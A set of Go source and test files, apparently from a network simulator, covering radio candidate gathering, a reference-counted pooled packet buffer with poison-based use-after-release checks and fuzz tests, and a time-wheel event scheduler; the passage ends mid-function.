// emptied tail slot keeps its backing array so scan-heavy radios that hop
// between channels do not reallocate cell slices.
func (s *mediumShard) removeFromCell(r *Radio) {
	cell := s.grid[r.cell]
	last := len(cell) - 1
	moved := cell[last]
	cell[r.cellIdx] = moved
	moved.cellIdx = r.cellIdx
	cell[last] = nil
	s.grid[r.cell] = cell[:last]
}

// gatherCandidates collects every radio that could decode (or, with
// shadowing, would draw for) tx into the delivery loop's scratch buffer.
func (m *Medium) gatherCandidates(tx *transmission) []*Radio {
	m.cand = m.gatherInto(m.cand[:0], tx)
	return m.cand
}

// gatherInto appends tx's candidates to cand, in ascending global attach
// order — the exact iteration order of the pre-shard medium. It only reads
// the shard index, so prepare hooks may call it concurrently as long as each
// passes its own destination buffer.
func (m *Medium) gatherInto(cand []*Radio, tx *transmission) []*Radio {
	lo, hi := channelNeighborhood(tx.channel)
	if !m.spatial {
		// Shadowing mode: reception at any distance is a draw, so every
		// radio in the channel neighborhood participates.
		for ch := lo; ch <= hi; ch++ {
			cand = append(cand, m.shards[ch].radios...)
		}
	} else {
		rad := m.maxDecodeRange(tx.powerDBm)
		p := tx.src.pos
		cx0 := int32(math.Floor((p.X - rad) / m.cellSize))
		cx1 := int32(math.Floor((p.X + rad) / m.cellSize))
		cy0 := int32(math.Floor((p.Y - rad) / m.cellSize))
		cy1 := int32(math.Floor((p.Y + rad) / m.cellSize))
		cells := int64(cx1-cx0+1) * int64(cy1-cy0+1)
		for ch := lo; ch <= hi; ch++ {
			s := &m.shards[ch]
			if len(s.radios) == 0 {
				continue
			}
			if int64(len(s.radios)) <= cells {
				// Sparse shard: scanning the member list beats probing more
				// cells than it has radios. Safe either way — the decode
				// floor, not the grid, is the exact filter.
				cand = append(cand, s.radios...)
				continue
			}
			for cy := cy0; cy <= cy1; cy++ {
				for cx := cx0; cx <= cx1; cx++ {
					cand = append(cand, s.grid[gridKey{cx, cy}]...)
				}
			}
		}
	}
	sort.Slice(cand, func(i, j int) bool { return cand[i].idx < cand[j].idx })
	return cand
}

// EnergyDBm reports the strongest energy the radio currently senses on its
// tuned channel, scanning the shard neighborhood's active transmissions —
// the noise floor when the air is quiet (or the radio is down). This is the
// shard-index view of the air that carrier sense and the jammer use; it
// needs no receiver and consumes no RNG.
func (r *Radio) EnergyDBm() float64 {
	m := r.medium
	e := m.cfg.NoiseFloorDBm
	if r.down {
		return e
	}
	now := m.kernel.Now()
	lo, hi := channelNeighborhood(r.channel)
	for ch := lo; ch <= hi; ch++ {
		rej := channelRejectionDB(ch, r.channel)
		for _, t := range m.shards[ch].active {
			if t.end <= now || t.start > now || t.src == r {
				continue
			}
			p := t.powerDBm - m.pathLossDB(t.src.pos, r.pos) - rej
			if p > e {
				e = p
			}
		}
	}
	return e
}
