package pkt

import (
	"bytes"
	"strings"
	"testing"
)

func TestPushPopRoundTrip(t *testing.T) {
	p := NewPool()
	b := p.Get()
	b.Append([]byte("payload"))

	copy(b.Push(4), "ipv4")
	copy(b.Push(3), "llc")
	if got := string(b.Bytes()); got != "llcipv4payload" {
		t.Fatalf("after pushes: %q", got)
	}
	if got := string(b.Pop(3)); got != "llc" {
		t.Fatalf("pop header: %q", got)
	}
	if got := string(b.Peek(4)); got != "ipv4" {
		t.Fatalf("peek header: %q", got)
	}
	if got := string(b.Pop(4)); got != "ipv4" {
		t.Fatalf("pop header: %q", got)
	}
	if got := string(b.Bytes()); got != "payload" {
		t.Fatalf("after pops: %q", got)
	}
	b.Release()
}

func TestExtendTrim(t *testing.T) {
	p := NewPool()
	b := p.Get()
	b.Append([]byte("body"))
	copy(b.Extend(4), "icv!")
	if got := string(b.Bytes()); got != "bodyicv!" {
		t.Fatalf("after extend: %q", got)
	}
	b.Trim(4)
	if got := string(b.Bytes()); got != "body" {
		t.Fatalf("after trim: %q", got)
	}
	b.Release()
}

func TestPushGrowsHeadroom(t *testing.T) {
	p := NewPool()
	b := p.Get()
	b.Append([]byte("x"))
	// Exhaust the headroom, then push past it.
	b.Push(b.Headroom())
	big := b.Push(10)
	for i := range big {
		big[i] = byte(i)
	}
	if b.Len() != 1+DefaultHeadroom+10 {
		t.Fatalf("len after growth: %d", b.Len())
	}
	if b.Headroom() < DefaultHeadroom {
		t.Fatalf("growth reserved %d headroom, want >= %d", b.Headroom(), DefaultHeadroom)
	}
	got := b.Bytes()
	if !bytes.Equal(got[:10], []byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}) || got[len(got)-1] != 'x' {
		t.Fatalf("content lost across growth: %v", got)
	}
	b.Release()
	// The grown backing array is non-canonical and must not be pooled.
	if s := p.Stats(); s.Dropped != 1 {
		t.Fatalf("dropped = %d, want 1", s.Dropped)
	}
}

func TestExtendGrowsTailroom(t *testing.T) {
	p := NewPool()
	b := p.Get()
	n := b.Tailroom() + 5
	tail := b.Extend(n)
	if len(tail) != n {
		t.Fatalf("extend returned %d bytes, want %d", len(tail), n)
	}
	if b.Tailroom() < 0 {
		t.Fatalf("negative tailroom")
	}
	b.Release()
}

func TestRetainRelease(t *testing.T) {
	p := NewPool()
	b := p.Get()
	if b.Retain() != b {
		t.Fatal("Retain must return the same buffer")
	}
	b.Release()
	if b.Refs() != 1 {
		t.Fatalf("refs = %d, want 1", b.Refs())
	}
	b.Release()
	if s := p.Stats(); s.Puts != 1 {
		t.Fatalf("puts = %d, want 1", s.Puts)
	}
}

func TestPoolReuseIsLIFO(t *testing.T) {
	p := NewPool()
	a := p.Get()
	a.Release()
	b := p.Get()
	if a != b {
		t.Fatal("freelist must reissue the most recently released buffer")
	}
	if s := p.Stats(); s.Reuses != 1 {
		t.Fatalf("reuses = %d, want 1", s.Reuses)
	}
	b.Release()
}

func TestUseAfterReleasePanics(t *testing.T) {
	p := NewPool()
	b := p.Get()
	b.Release()
	mustPanic(t, "use of released", func() { b.Bytes() })
	mustPanic(t, "already-released", func() { b.Release() })
}

func TestPopPastViewPanics(t *testing.T) {
	b := Wrap([]byte("ab"))
	mustPanic(t, "pop", func() { b.Pop(3) })
	mustPanic(t, "peek", func() { b.Peek(3) })
	mustPanic(t, "trim", func() { b.Trim(3) })
	b.Release()
}

func TestWrap(t *testing.T) {
	raw := []byte("hello")
	b := Wrap(raw)
	if !bytes.Equal(b.Bytes(), raw) || b.Headroom() != 0 {
		t.Fatalf("wrap view: %q headroom %d", b.Bytes(), b.Headroom())
	}
	b.Pop(2)
	if got := string(b.Bytes()); got != "llo" {
		t.Fatalf("after pop: %q", got)
	}
	b.Release() // no pool: must not panic, just drops the ref
}

// TestPoisonCatchesUseAfterRelease proves the debug mode detects a deliberate
// violation: writing through a Bytes() view captured before Release corrupts
// the poisoned freelist buffer, and the next Get panics.
func TestPoisonCatchesUseAfterRelease(t *testing.T) {
	p := NewPool()
	p.SetPoison(true)

	b := p.Get()
	b.Append([]byte("secret"))
	stale := b.Bytes() // illegally kept past Release
	b.Release()

	if s := p.Stats(); s.Poisoned != 1 {
		t.Fatalf("poisoned = %d, want 1", s.Poisoned)
	}
	for i, c := range stale {
		if c != poison {
			t.Fatalf("freed byte %d = %#x, want poison %#x", i, c, poison)
		}
	}

	stale[0] = 'X' // the violation
	mustPanic(t, "use-after-release", func() { p.Get() })
}

func TestPoisonCleanReuseDoesNotPanic(t *testing.T) {
	p := NewPool()
	p.SetPoison(true)
	b := p.Get()
	b.Append([]byte("data"))
	b.Release()
	b = p.Get() // must not panic: nothing touched the freed buffer
	b.Release()
}

func mustPanic(t *testing.T, substr string, fn func()) {
	t.Helper()
	defer func() {
		r := recover()
		if r == nil {
			t.Fatalf("expected panic containing %q", substr)
		}
		if msg, ok := r.(string); !ok || !strings.Contains(msg, substr) {
			t.Fatalf("panic %v, want substring %q", r, substr)
		}
	}()
	fn()
}

func TestBatchParksReleasesUntilEnd(t *testing.T) {
	// Inside a delivery barrier, released buffers go to the arena: a Get
	// cannot recycle them until the barrier closes, at which point they all
	// rejoin the freelist together.
	p := NewPool()
	p.BeginBatch()
	a := p.Get()
	a.Release()
	b := p.Get()
	if a == b {
		t.Fatal("buffer released inside a batch was recycled before EndBatch")
	}
	b.Release()
	p.EndBatch()
	c := p.Get()
	d := p.Get()
	if !((c == a && d == b) || (c == b && d == a)) {
		t.Fatal("arena buffers did not rejoin the freelist after EndBatch")
	}
	c.Release()
	d.Release()
}

func TestBatchNests(t *testing.T) {
	p := NewPool()
	p.BeginBatch()
	p.BeginBatch()
	a := p.Get()
	a.Release()
	p.EndBatch()
	if b := p.Get(); a == b {
		t.Fatal("inner EndBatch flushed the arena while the outer batch was open")
	}
	p.EndBatch()
	mustPanic(t, "EndBatch", func() { p.EndBatch() })
}

func TestBatchPoisonsImmediately(t *testing.T) {
	// Poison-on-release still happens at Release time inside a batch, so a
	// stale write during the same fan-out is caught at the next poisoned Get.
	p := NewPool()
	p.SetPoison(true)
	p.BeginBatch()
	b := p.Get()
	view := b.Extend(4)
	b.Release()
	view[0] = 0x42 // use-after-release write into the arena-parked buffer
	p.EndBatch()
	mustPanic(t, "use-after-release", func() { p.Get() })
}
