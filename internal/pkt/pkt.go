// Package pkt provides the pooled packet buffer the simulation's
// encapsulation path runs on: a single backing array per frame with reserved
// headroom and tailroom, so each protocol layer pushes or pops its header in
// place instead of re-marshalling into a fresh allocation at every hop
// (skbuff-style, sized for the repository's deepest stack:
// dot11+WEP+LLC+IPv4+TCP).
//
// Buffers are reference-counted with an explicit Retain/Release lifecycle and
// recycled through a per-kernel Pool freelist. There is deliberately no
// sync.Pool here: the kernel is single-goroutine, and a plain LIFO freelist
// keeps buffer identity (and therefore any accidental aliasing bug) a pure
// function of the event sequence, so runs stay bit-for-bit reproducible.
//
// Ownership contract (see DESIGN.md §9): APIs that accept a *Buf take
// ownership and release it exactly once — callers that need the bytes after
// handing a buffer off must Retain first. Delivered payloads are transient
// views into a buffer owned by the delivering layer, valid only for the
// duration of the synchronous callback.
package pkt

import "fmt"

// DefaultHeadroom is the space reserved at the front of a pooled buffer for
// headers pushed by lower layers. Sized for the deepest header chain in the
// repository: IPv4 (20) + LLC/SNAP (8) + WEP (4) + 802.11 MAC (24) = 56,
// with slack for future options.
const DefaultHeadroom = 96

// defaultSize is the pooled backing-array size: DefaultHeadroom plus the
// largest frame the simulation ever builds (a WEP-sealed 1500-byte MTU data
// frame is 1540 bytes on the air), rounded up with tailroom to spare.
const defaultSize = 2048

// Buf is a packet buffer: a view [off:end) into a backing array with free
// headroom before the view and tailroom after it.
type Buf struct {
	data []byte
	off  int
	end  int
	refs int
	pool *Pool // nil for Wrap'd buffers
}

// Wrap adopts an existing byte slice as a non-pooled buffer with no headroom.
// Release on a wrapped buffer just drops the reference; the slice is returned
// to the garbage collector, never to a pool.
func Wrap(b []byte) *Buf {
	return &Buf{data: b, off: 0, end: len(b), refs: 1}
}

func (b *Buf) live() {
	if b.refs <= 0 {
		panic("pkt: use of released buffer")
	}
}

// Bytes returns the buffer's current view. The slice aliases the backing
// array: it is invalidated by Push/Pop/Extend/Trim and must not outlive the
// buffer's last reference.
func (b *Buf) Bytes() []byte {
	b.live()
	return b.data[b.off:b.end]
}

// Len reports the view length.
func (b *Buf) Len() int {
	b.live()
	return b.end - b.off
}

// Headroom reports the free space before the view.
func (b *Buf) Headroom() int {
	b.live()
	return b.off
}

// Tailroom reports the free space after the view.
func (b *Buf) Tailroom() int {
	b.live()
	return len(b.data) - b.end
}

// Push grows the view at the front by n bytes and returns the new front —
// the slot an encapsulating layer writes its header into. If the headroom is
// exhausted the backing array is reallocated with fresh headroom (the growth
// size is a pure function of the request, keeping runs deterministic).
func (b *Buf) Push(n int) []byte {
	b.live()
	if n < 0 {
		panic("pkt: negative push")
	}
	if n > b.off {
		b.grow(n-b.off+DefaultHeadroom, 0)
	}
	b.off -= n
	return b.data[b.off : b.off+n]
}

// Pop shrinks the view at the front by n bytes and returns the removed
// header. The returned slice stays valid (it aliases headroom) until the
// next Push or Release.
func (b *Buf) Pop(n int) []byte {
	b.live()
	if n < 0 || n > b.end-b.off {
		panic(fmt.Sprintf("pkt: pop %d from %d-byte view", n, b.end-b.off))
	}
	h := b.data[b.off : b.off+n]
	b.off += n
	return h
}

// Peek returns the first n bytes of the view without consuming them.
func (b *Buf) Peek(n int) []byte {
	b.live()
	if n < 0 || n > b.end-b.off {
		panic(fmt.Sprintf("pkt: peek %d of %d-byte view", n, b.end-b.off))
	}
	return b.data[b.off : b.off+n]
}

// Extend grows the view at the tail by n bytes and returns the new tail —
// the slot a trailer (e.g. the WEP ICV) is written into. Reallocates when
// tailroom is exhausted.
func (b *Buf) Extend(n int) []byte {
	b.live()
	if n < 0 {
		panic("pkt: negative extend")
	}
	if n > len(b.data)-b.end {
		b.grow(0, n-(len(b.data)-b.end)+DefaultHeadroom)
	}
	b.end += n
	return b.data[b.end-n : b.end]
}

// Trim shrinks the view at the tail by n bytes.
func (b *Buf) Trim(n int) {
	b.live()
	if n < 0 || n > b.end-b.off {
		panic(fmt.Sprintf("pkt: trim %d from %d-byte view", n, b.end-b.off))
	}
	b.end -= n
}

// Append copies p onto the tail of the view.
func (b *Buf) Append(p []byte) {
	copy(b.Extend(len(p)), p)
}

// grow reallocates the backing array with at least frontExtra more headroom
// and tailExtra more tailroom, preserving the view's contents.
func (b *Buf) grow(frontExtra, tailExtra int) {
	n := b.end - b.off
	newOff := b.off + frontExtra
	nd := make([]byte, len(b.data)+frontExtra+tailExtra)
	copy(nd[newOff:], b.data[b.off:b.end])
	b.data = nd
	b.off = newOff
	b.end = newOff + n
}

// Retain adds a reference and returns the buffer, so a sender can keep a
// frame alive across the transfer of ownership to a lower layer:
//
//	radio.SendBuf(job.pb.Retain(), rate) // phy releases its ref; job keeps its own
func (b *Buf) Retain() *Buf {
	b.live()
	b.refs++
	return b
}

// Release drops one reference. When the last reference goes, a pooled buffer
// returns to its pool's freelist (and is poisoned first when the pool's
// debug mode is on); a wrapped buffer is simply left to the GC. Releasing
// more times than Retain+1 panics.
func (b *Buf) Release() {
	if b.refs <= 0 {
		panic("pkt: release of already-released buffer")
	}
	b.refs--
	if b.refs == 0 && b.pool != nil {
		b.pool.put(b)
	}
}

// Refs reports the current reference count (tests, leak checks).
func (b *Buf) Refs() int { return b.refs }
