package pkt

import "bytes"

// poison is the sentinel byte freed buffers are filled with when the pool's
// debug mode is on. 0xA5 is unlikely to be a valid header byte in any of the
// simulated protocols, so a use-after-release shows up as garbage fast even
// when the panic guard is bypassed by a stale Bytes() view.
const poison = 0xA5

// poisonTemplate is a canonical-size buffer of poison bytes. Filling via
// copy and verifying via bytes.Equal run as memmove/memequal instead of
// byte-at-a-time loops; profiling the chaos matrix showed the naive loops
// costing ~20% of total CPU with checks enabled.
var poisonTemplate = func() []byte {
	t := make([]byte, defaultSize)
	for i := range t {
		t[i] = poison
	}
	return t
}()

// PoolStats counts pool traffic for tests and leak diagnosis.
type PoolStats struct {
	Gets     uint64 // buffers handed out
	Reuses   uint64 // gets satisfied from the freelist
	Puts     uint64 // buffers returned
	Dropped  uint64 // returned buffers discarded (non-canonical backing size)
	Poisoned uint64 // buffers poisoned on return (debug mode)
}

// Pool recycles packet buffers through a LIFO freelist. It is not safe for
// concurrent use; each sim kernel owns one, matching the kernel's
// single-goroutine execution model, and LIFO reuse keeps buffer identity
// deterministic across runs.
type Pool struct {
	free   []*Buf
	poison bool
	stats  PoolStats

	// batchDepth > 0 parks released buffers in batch (the delivery-barrier
	// arena) instead of the freelist; EndBatch flushes them together.
	batchDepth int
	batch      []*Buf
}

// NewPool returns an empty pool.
func NewPool() *Pool { return &Pool{} }

// SetPoison toggles poison-on-release debugging: freed buffers are
// overwritten with a sentinel and verified still-poisoned when reissued, so a
// write through a stale view panics at the next Get instead of silently
// corrupting a later frame.
func (p *Pool) SetPoison(on bool) { p.poison = on }

// Stats returns a snapshot of the pool's counters.
func (p *Pool) Stats() PoolStats { return p.stats }

// Get returns an empty buffer (refs=1) with DefaultHeadroom reserved.
func (p *Pool) Get() *Buf {
	p.stats.Gets++
	if n := len(p.free); n > 0 {
		b := p.free[n-1]
		p.free[n-1] = nil
		p.free = p.free[:n-1]
		p.stats.Reuses++
		if p.poison {
			p.checkPoison(b)
		}
		b.off = DefaultHeadroom
		b.end = DefaultHeadroom
		b.refs = 1
		return b
	}
	return &Buf{
		data: make([]byte, defaultSize),
		off:  DefaultHeadroom,
		end:  DefaultHeadroom,
		refs: 1,
		pool: p,
	}
}

// GetCopy returns a buffer whose view is a copy of b.
func (p *Pool) GetCopy(b []byte) *Buf {
	pb := p.Get()
	copy(pb.Extend(len(b)), b)
	return pb
}

// BeginBatch opens a delivery-barrier arena: buffers released while a batch
// is open are poisoned (in debug mode) and parked immediately, but only
// rejoin the freelist when the outermost EndBatch runs. Inside the barrier a
// Get can therefore never recycle a buffer released during the same fan-out
// — a receiver that wrongly drops its last reference to bytes another
// receiver is still viewing cannot have them overwritten mid-delivery.
// Nesting is allowed; only the outermost EndBatch flushes.
func (p *Pool) BeginBatch() { p.batchDepth++ }

// EndBatch closes the innermost batch, flushing the arena to the freelist
// when the outermost one ends.
func (p *Pool) EndBatch() {
	if p.batchDepth == 0 {
		panic("pkt: EndBatch without BeginBatch")
	}
	p.batchDepth--
	if p.batchDepth > 0 || len(p.batch) == 0 {
		return
	}
	p.free = append(p.free, p.batch...)
	for i := range p.batch {
		p.batch[i] = nil
	}
	p.batch = p.batch[:0]
}

// put returns a buffer to the freelist — or, inside a delivery barrier, to
// the arena. Buffers whose backing array was reallocated by
// headroom/tailroom growth no longer match the canonical size and are
// dropped, keeping the pool's memory footprint bounded and every pooled
// buffer interchangeable.
func (p *Pool) put(b *Buf) {
	p.stats.Puts++
	if len(b.data) != defaultSize {
		p.stats.Dropped++
		return
	}
	if p.poison {
		copy(b.data, poisonTemplate)
		p.stats.Poisoned++
	}
	b.off = 0
	b.end = 0
	if p.batchDepth > 0 {
		p.batch = append(p.batch, b)
		return
	}
	p.free = append(p.free, b)
}

// checkPoison panics if any byte of a freed buffer changed while it sat on
// the freelist — evidence that a stale view wrote through after Release.
// The fast path is a single memequal against the template; the byte loop
// only runs to name the offset once a violation is already certain.
func (p *Pool) checkPoison(b *Buf) {
	if bytes.Equal(b.data, poisonTemplate) {
		return
	}
	for i, c := range b.data {
		if c != poison {
			panic("pkt: freed buffer modified while pooled (use-after-release write at offset " +
				itoa(i) + ")")
		}
	}
}

// itoa avoids pulling strconv into the panic path.
func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
