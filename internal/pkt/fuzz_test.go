package pkt

import (
	"bytes"
	"testing"
)

// FuzzPktPushPop drives a pooled buffer through an arbitrary op sequence —
// pushes past the headroom (forcing growth reallocation), nested push/pop and
// extend/trim round-trips, and Retain/Release churn — while mirroring every
// mutation in a plain []byte model. Any divergence between the buffer's view
// and the model, any unexpected panic, or an unbalanced refcount at the end
// fails the target. Poison mode is on so a freelist corruption also trips.
func FuzzPktPushPop(f *testing.F) {
	f.Add([]byte{})
	// Nested push/pop round-trip.
	f.Add([]byte{0, 4, 0, 8, 1, 8, 1, 4})
	// Push far past DefaultHeadroom to force growth.
	f.Add([]byte{0, 200, 0, 200, 1, 100})
	// Extend/trim churn at the tail.
	f.Add([]byte{2, 16, 3, 8, 2, 32, 3, 40})
	// Retain/Release balance with mutation in between.
	f.Add([]byte{4, 0, 0, 10, 5, 0, 1, 5})
	f.Fuzz(func(t *testing.T, ops []byte) {
		p := NewPool()
		p.SetPoison(true)
		b := p.Get()
		refs := 1
		var model []byte
		fill := byte(1)
		for i := 0; i+1 < len(ops); i += 2 {
			op, arg := ops[i]%6, int(ops[i+1])
			switch op {
			case 0: // push
				h := b.Push(arg)
				for j := range h {
					h[j] = fill
				}
				model = append(bytes.Repeat([]byte{fill}, arg), model...)
				fill++
			case 1: // pop
				if arg > len(model) {
					arg = len(model)
				}
				got := b.Pop(arg)
				if !bytes.Equal(got, model[:arg]) {
					t.Fatalf("op %d: pop %q, model %q", i, got, model[:arg])
				}
				model = model[arg:]
			case 2: // extend
				tail := b.Extend(arg)
				for j := range tail {
					tail[j] = fill
				}
				model = append(model, bytes.Repeat([]byte{fill}, arg)...)
				fill++
			case 3: // trim
				if arg > len(model) {
					arg = len(model)
				}
				b.Trim(arg)
				model = model[:len(model)-arg]
			case 4: // retain
				if refs < 8 {
					b.Retain()
					refs++
				}
			case 5: // release (keep one ref so the buffer stays usable)
				if refs > 1 {
					b.Release()
					refs--
				}
			}
			if !bytes.Equal(b.Bytes(), model) {
				t.Fatalf("op %d: view %q != model %q", i, b.Bytes(), model)
			}
			if b.Len() != len(model) || b.Headroom() < 0 || b.Tailroom() < 0 {
				t.Fatalf("op %d: geometry len=%d headroom=%d tailroom=%d model=%d",
					i, b.Len(), b.Headroom(), b.Tailroom(), len(model))
			}
		}
		for ; refs > 0; refs-- {
			b.Release()
		}
		if s := p.Stats(); s.Puts != 1 {
			t.Fatalf("puts = %d after final release, want 1", s.Puts)
		}
		// Reissue: panics here mean the op sequence corrupted the freelist.
		p.Get().Release()
	})
}
