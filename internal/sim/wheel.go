package sim

import (
	"fmt"
	"math/bits"
)

// The event queue is a hierarchical time wheel with a heap overflow tier,
// replacing the original container/heap binary heap (kept verbatim as the
// reference scheduler in differential_test.go). The scheduler is the floor
// under every simulated packet, retransmit, and fault apply/revert, so its
// cost is what bounds kernel events/sec (BenchmarkKernelEventsPerSec).
//
// Layout:
//
//   - Near-future events — within wheelSpan of the wheel cursor — land in
//     fixed-resolution slots: slot index = (when >> slotShift) & wheelMask.
//     Insertion is an O(1) append; a slot holds exactly one tick's events at
//     a time (the window is exactly wheelSlots ticks wide), in arrival
//     order, which is seq order.
//   - Imminent events — at or before the cursor tick — go to a small binary
//     heap (cur), ordered by (when, seq). When the cursor reaches a slot its
//     events move into cur in one batch; events scheduled mid-fire for the
//     current tick (Schedule at now) join cur directly, so the exact
//     (when, seq) fire order of the reference heap is preserved even though
//     most events never touch a heap.
//   - Far-future events — beyond the window — overflow to a second small
//     heap and are promoted into slots as the cursor advances. Promotion
//     pops in (when, seq) order, so same-tick overflow events arrive in
//     their slot in seq order like directly inserted ones.
//
// Cancel stays lazy everywhere: cancelled events are dropped when their slot
// is loaded or when they surface at the top of a heap. Only At/After events
// can be cancelled (Schedule returns no handle), and those are never pooled,
// so a dropped cancelled event is simply garbage.
//
// The occupancy bitmap makes "next non-empty slot" a word scan instead of a
// slot scan; when the wheel is empty the cursor jumps straight to the
// overflow minimum, so an idle stretch (a convergence window with only a
// far-future timer pending) costs O(1), not O(elapsed ticks).

const (
	// slotShift sets the wheel resolution: events within the same
	// 2^slotShift ns tick share a slot. 32.768µs spans a handful of frame
	// exchanges but splits distinct protocol timers.
	slotShift = 15
	// wheelBits sets the slot count; the window covers wheelSlots ticks
	// (~134ms at slotShift 15) — beacon intervals and most protocol timers
	// in-window, multi-second backoffs and keepalives in overflow.
	wheelBits  = 12
	wheelSlots = 1 << wheelBits
	wheelMask  = wheelSlots - 1
	occWords   = wheelSlots / 64
)

// tickOf maps a virtual time to its wheel tick.
func tickOf(t Time) int64 { return int64(t) >> slotShift }

// eventLess is the scheduler's total order: fire time, then scheduling
// sequence (FIFO for ties). seq is unique, so the order is strict.
func eventLess(a, b *Event) bool {
	if a.when != b.when {
		return a.when < b.when
	}
	return a.seq < b.seq
}

// heapPush inserts e into the (when, seq) min-heap h.
func heapPush(h *[]*Event, e *Event) {
	q := append(*h, e)
	i := len(q) - 1
	for i > 0 {
		parent := (i - 1) / 2
		if !eventLess(q[i], q[parent]) {
			break
		}
		q[i], q[parent] = q[parent], q[i]
		i = parent
	}
	*h = q
}

// heapPop removes and returns the minimum of h.
func heapPop(h *[]*Event) *Event {
	q := *h
	min := q[0]
	n := len(q) - 1
	q[0] = q[n]
	q[n] = nil
	q = q[:n]
	// Sift down.
	i := 0
	for {
		l, r := 2*i+1, 2*i+2
		small := i
		if l < n && eventLess(q[l], q[small]) {
			small = l
		}
		if r < n && eventLess(q[r], q[small]) {
			small = r
		}
		if small == i {
			break
		}
		q[i], q[small] = q[small], q[i]
		i = small
	}
	*h = q
	return min
}

// insert places a newly scheduled event into the tier its timestamp calls
// for. The caller has already assigned when/seq and validated causality.
func (k *Kernel) insert(e *Event) {
	tk := tickOf(e.when)
	switch {
	case tk <= k.cursor:
		heapPush(&k.cur, e)
	case tk <= k.cursor+wheelSlots:
		if k.slots == nil {
			// Lazy slot table: ~100 KB per kernel, paid only once an event
			// actually lands in the wheel window. Kernels that stay in the
			// imminent heap or overflow tier never allocate it.
			k.slots = make([][]*Event, wheelSlots)
		}
		s := tk & wheelMask
		k.slots[s] = append(k.slots[s], e)
		k.occ[s>>6] |= 1 << uint(s&63)
		k.wheelCount++
	default:
		heapPush(&k.overflow, e)
	}
}

// BatchEntry is one event of a ScheduleBatch call.
type BatchEntry struct {
	When Time
	Fn   func()
}

// ScheduleBatch schedules every entry as a pooled event, exactly as if
// Schedule had been called once per entry in order: sequence numbers are
// assigned in entry order, so fire order and trace digests are identical to
// the sequential calls. The point is the wheel fast path — consecutive
// entries landing on the same wheel tick share one slot lookup and one
// occupancy-bit update, so a large fan-out (per-station joins, per-receiver
// completions, fault-occurrence trains) costs one insert per occupied slot
// instead of one per event. Entry closures carry the same obligations as
// Schedule's (no loop-variable capture without a copy; see eventcapture).
func (k *Kernel) ScheduleBatch(entries []BatchEntry) {
	// slot/slotTick cache one wheel slot across consecutive same-tick
	// entries; flush writes the grown slice and occupancy bit back. The cache
	// must be flushed before any panic so earlier entries stay scheduled,
	// matching the sequential-call behavior.
	var (
		slot     []*Event
		slotTick int64 = -1
		slotIdx  int64
	)
	flush := func() {
		if slotTick >= 0 {
			k.slots[slotIdx] = slot
			k.occ[slotIdx>>6] |= 1 << uint(slotIdx&63)
			slotTick = -1
		}
	}
	for _, ent := range entries {
		if ent.When < k.now {
			flush()
			panic(fmt.Sprintf("sim: scheduling into the past: now=%v t=%v", k.now, ent.When))
		}
		if ent.Fn == nil {
			flush()
			panic("sim: nil event function")
		}
		e := k.getEvent()
		e.when = ent.When
		e.seq = k.seq
		e.fn = ent.Fn
		e.pooled = true
		k.seq++
		tk := tickOf(e.when)
		if tk == slotTick {
			slot = append(slot, e)
			k.wheelCount++
			continue
		}
		switch {
		case tk <= k.cursor:
			heapPush(&k.cur, e)
		case tk <= k.cursor+wheelSlots:
			flush()
			if k.slots == nil {
				k.slots = make([][]*Event, wheelSlots)
			}
			slotTick = tk
			slotIdx = tk & wheelMask
			slot = append(k.slots[slotIdx], e)
			k.wheelCount++
		default:
			heapPush(&k.overflow, e)
		}
	}
	flush()
}

// promote drains overflow events whose tick has entered the wheel window.
// Pops come in (when, seq) order, so same-slot promotions preserve seq order.
func (k *Kernel) promote() {
	for len(k.overflow) > 0 && tickOf(k.overflow[0].when) <= k.cursor+wheelSlots {
		k.insert(heapPop(&k.overflow))
	}
}

// loadSlot moves the cursor slot's events into the imminent heap, dropping
// cancelled ones. The slot's backing array is retained for reuse, so slot
// storage reaches a steady state with no per-event growth.
func (k *Kernel) loadSlot() {
	s := k.cursor & wheelMask
	slot := k.slots[s]
	if len(slot) == 0 {
		return
	}
	k.wheelCount -= len(slot)
	for i, e := range slot {
		if !e.cancelled {
			heapPush(&k.cur, e)
		}
		slot[i] = nil
	}
	k.slots[s] = slot[:0]
	k.occ[s>>6] &^= 1 << uint(s&63)
}

// nextOccupied returns the tick of the first occupied slot after the cursor.
// The window is (cursor, cursor+wheelSlots], so the first set bit in circular
// slot order after the cursor slot is the earliest tick. Must only be called
// with wheelCount > 0.
func (k *Kernel) nextOccupied() int64 {
	start := (k.cursor + 1) & wheelMask
	// Partial first word, then whole words, wrapping once.
	w := k.occ[start>>6] >> uint(start&63)
	if w != 0 {
		s := start + int64(bits.TrailingZeros64(w))
		return k.cursor + 1 + ((s - start) & wheelMask)
	}
	for i := int64(1); i <= occWords; i++ {
		idx := ((start >> 6) + i) & (occWords - 1)
		if w := k.occ[idx]; w != 0 {
			s := idx<<6 + int64(bits.TrailingZeros64(w))
			return k.cursor + 1 + ((s - start) & wheelMask)
		}
	}
	panic("sim: wheel count positive but no occupied slot")
}

// advance moves the cursor to the next tick holding events and loads it.
// Precondition: the imminent heap is empty and some event is queued.
// loadSlot must precede promote: a promoted event at exactly
// cursor+wheelSlots lands in the cursor's slot index, which must already be
// drained or it would ride into cur a full window early.
func (k *Kernel) advance() {
	if k.wheelCount == 0 {
		// Idle jump: the whole window moves to the overflow minimum, whose
		// own promotion lands directly in cur (its tick == cursor).
		k.cursor = tickOf(k.overflow[0].when)
		k.promote()
		return
	}
	k.cursor = k.nextOccupied()
	k.loadSlot()
	k.promote()
}

// nextEvent pops the earliest live event, discarding cancelled ones, or
// returns nil when the queue is empty.
func (k *Kernel) nextEvent() *Event {
	for {
		for len(k.cur) > 0 {
			e := heapPop(&k.cur)
			if e.cancelled {
				continue
			}
			return e
		}
		if k.wheelCount == 0 && len(k.overflow) == 0 {
			return nil
		}
		k.advance()
	}
}

// peekWhen reports the fire time of the earliest live event without firing
// it. It may discard cancelled events and advance the cursor (never the
// clock); the next nextEvent call returns exactly the peeked event.
func (k *Kernel) peekWhen() (Time, bool) {
	for {
		for len(k.cur) > 0 {
			if k.cur[0].cancelled {
				heapPop(&k.cur)
				continue
			}
			return k.cur[0].when, true
		}
		if k.wheelCount == 0 && len(k.overflow) == 0 {
			return 0, false
		}
		k.advance()
	}
}

// drainQueue empties every tier in O(pending), recycling pooled events into
// the freelist so a stopping kernel with thousands of queued events neither
// walks them through a heap one pop at a time nor leaks its event pool.
func (k *Kernel) drainQueue() {
